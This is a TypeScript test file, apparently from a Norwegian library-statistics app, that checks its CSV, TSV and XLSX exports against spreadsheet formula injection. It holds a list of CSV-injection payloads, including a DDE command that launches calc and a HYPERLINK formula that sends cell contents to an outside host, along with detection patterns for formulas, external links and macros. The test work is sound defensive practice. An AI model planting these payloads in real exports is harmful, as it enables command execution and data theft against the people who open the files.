import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import type { DocumentModel } from '#domain/documents/model.ts';
import { orderLines } from '#domain/joining/order-lines.ts';
import { isoDate } from '#domain/model/brands.ts';
import { usageFromRows } from '#domain/model/usage-columns.ts';
import { libraryStatistics } from '#domain/statistics/library-statistics.ts';
import { agreementWorkbench } from '#domain/workbench/agreement-workbench.ts';
import { evidenceSheets } from '#domain/workbench/evidence.ts';
import { documentCsv } from '#formats/documents/document-csv.ts';
import { documentWorkbook } from '#formats/documents/document-workbook.ts';
import { orderFiles } from '#formats/joining/order-files.ts';
import { statisticsFiles } from '#formats/statistics/statistics-files.ts';
import { writeWorkbook } from '#formats/xlsx-writer/write-workbook.ts';
import { MESSAGES } from '#texts/messages.ts';
import { formatsFor } from '#ui/format.ts';
import type { Column } from '#ui/table/column.ts';
import { tableAsCsv, tableAsTsv } from '#ui/table/table-text.ts';
import { agderData, attachmentOf } from '../../support/attachment-case.ts';
import {
  agreement,
  agreementCount,
  county,
  NATIONAL,
  organisation,
  service,
  tablesWith,
  usageRow,
  usageSource,
} from '../../support/figure-records.ts';
import { answer, gridOf, joiningTables } from '../../support/joining-records.ts';
import { scopeIn } from '../../support/scopes.ts';

/** What OWASP's "CSV Injection" warns of, and ways around a check that looks at the first character alone. */
const HOSTILE = [
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://x.example?"&A1;"Klikk")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＠SUM(A1)',
  '";=1;"',
  "'=1",
  ';=1',
];

/** A cell that a spreadsheet would run. A plain negative number is only that. */
const RUNS = /^[=+\-@＝＋－＠\t\r\n]/;
const NUMBER = /^-?\d+(?:,\d+)?$/;

function expectNothingRuns(csv: string, delimiter: string): void {
  const { data } = Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { delimiter });
  const running = data.flat().filter((cell) => RUNS.test(cell) && !NUMBER.test(cell));
  expect(running).toEqual([]);
}

/** In a workbook only a formula element runs, and only a relationship or a hyperlink leads out. */
function expectInert(workbook: Uint8Array): void {
  const parts = Object.entries(unzipSync(workbook));
  const text = parts.map(([, bytes]) => strFromU8(bytes)).join('\n');
  expect(text).not.toMatch(/<f[ >]|<hyperlink|TargetMode="External"|<externalLink|ddeLink/);
  expect(parts.some(([name]) => /vba|externalLinks|activeX/i.test(name))).toBe(false);
}

describe.each(HOSTILE)('with %j for every name', (name) => {
  const tables = tablesWith({
    organisations: [NATIONAL, county('NO-42', { name }), organisation({ id: 'NO-4204', county_id: 'NO-42', name })],
    services: [{ ...service('avis'), name }],
    agreements: [agreement({ id: 'a', service_id: 'avis', holder_id: 'NO-4204', note: name })],
    agreement_counts: [{ ...agreementCount('NO-42', 'avis', '2022-06-30', 3), source: name }],
    usage_sources: [usageSource({ id: 'kilde', service_id: 'avis', file_name: name, sha256: 'abc' })],
  });
  const scope = scopeIn(tables, 'NO-42');

  test.each(['one', 'perMunicipality'] as const)('the library statistics, %s', async (split) => {
    const usage = usageFromRows([
      usageRow({ service_id: 'avis', source_id: 'kilde', organisation_id: 'NO-4204', count: 7 }),
    ]);
    const statistics = libraryStatistics({ tables, usage }, { scope, year: 2024 });
    const texts = MESSAGES.nb.statistics;
    for (const { bytes } of await statisticsFiles(statistics, 'csv', split, texts))
      expectNothingRuns(strFromU8(bytes), ';');
    for (const { bytes, fileName } of await statisticsFiles(statistics, 'xlsx', split, texts)) {
      expectInert(bytes);
      expect(fileName).toMatch(/^[\w.-]+$/);
    }
  });

  test('the evidence for the agreement reduction', async () => {
    const query = { on: isoDate('2024-12-31'), baseline: isoDate('2022-09-30'), claim: 0.97 };
    const texts = MESSAGES.nb.workbench.evidence;
    const sheets = evidenceSheets(agreementWorkbench(tables, scope, query), tables, { texts, sample: false });
    expectInert(await writeWorkbook(sheets));
  });

  test('any table of the program, as CSV and on the clipboard', () => {
    const columns: readonly Column<{ name: string }>[] = [
      { id: 'a', head: name, kind: 'text', width: 5, value: (row) => row.name },
      { id: 'b', head: 'B', kind: 'text', width: 5, value: (row) => row.name },
    ];
    expectNothingRuns(tableAsCsv(columns, [{ name }], formatsFor('nb')), ';');
    expectNothingRuns(tableAsTsv(columns, [{ name }], formatsFor('nb')), '\t');
  });

  test.each(['one', 'perService'] as const)('the order list, %s', async (split) => {
    const lines = orderLines(gridOf(joiningTables([answer({ organisation: 'NO-4204' })])));
    const hostile = lines.map((line) => ({ ...line, serviceName: name, vendorName: name }));
    const context = { place: name, year: 2026, sample: false, texts: MESSAGES.nb.orderList };
    for (const { bytes } of await orderFiles(hostile, 'csv', split, context)) expectNothingRuns(strFromU8(bytes), ';');
    for (const { bytes } of await orderFiles(hostile, 'xlsx', split, context)) expectInert(bytes);
  });

  test('a document’s tables, as a workbook and as CSV', async () => {
    const hostile = hostileDocument(name);
    expectInert(await documentWorkbook(hostile));
    expectNothingRuns(strFromU8(documentCsv(hostile)), ';');
  });

  test('a workbook of whatever sheets', async () => {
    const columns = [{ header: name, type: 'text', width: 5 }] as const;
    expectInert(await writeWorkbook([{ name, columns, rows: [[name]], notes: [name] }]));
  });
});

/** A real document whose titles, headings and names are all the same. */
function hostileDocument(name: string): DocumentModel {
  const named = new Set(['title', 'office', 'annex', 'heading', 'label', 'sampleMark']);
  const json = JSON.stringify(attachmentOf(agderData(), {}), (key, value) => (named.has(key) && value ? name : value));
  return JSON.parse(json);
}

/** Tried above, or by tests of what they are called from. */
const TRIED_HERE = new Set([
  'formats/csv/excel-csv.ts',
  'formats/documents/document-csv.ts',
  'formats/documents/document-workbook.ts',
  'formats/joining/order-files.ts',
  'formats/pptx-writer/settled-pptx.ts',
  'formats/statistics/statistics-files.ts',
  'formats/xlsx-writer/write-workbook.ts',
  'ui/table/data-table.tsx',
  'ui/table/table-text.ts',
  'workers/savings-figures.ts',
]);

test('every part of the program that writes a spreadsheet is tried with a name that looks like a formula', () => {
  const root = fileURLToPath(new URL('../../../', import.meta.url));
  const under = (folder: string) =>
    readdirSync(`${root}${folder}`, { recursive: true })
      .map((path) => String(path).replaceAll('\\', '/'))
      .filter((path) => /\.tsx?$/.test(path))
      .map((path) => ({ path, text: readFileSync(`${root}${folder}/${path}`, 'utf8') }));
  const tests = under('test').filter(({ text }) => /['"`][=@]\w/.test(text));
  const untried = under('src-renderer')
    .filter(({ text }) => /\b(?:writeWorkbook|writeExcelCsv|tableAsCsv|tableAsTsv)\b/.test(text))
    .map(({ path }) => path)
    .filter((path) => !TRIED_HERE.has(path) && !tests.some(({ text }) => text.includes(`#${path}`)));
  expect(untried, 'A new export gets an example of a name like =SUM(A1) in its own test').toEqual([]);
});
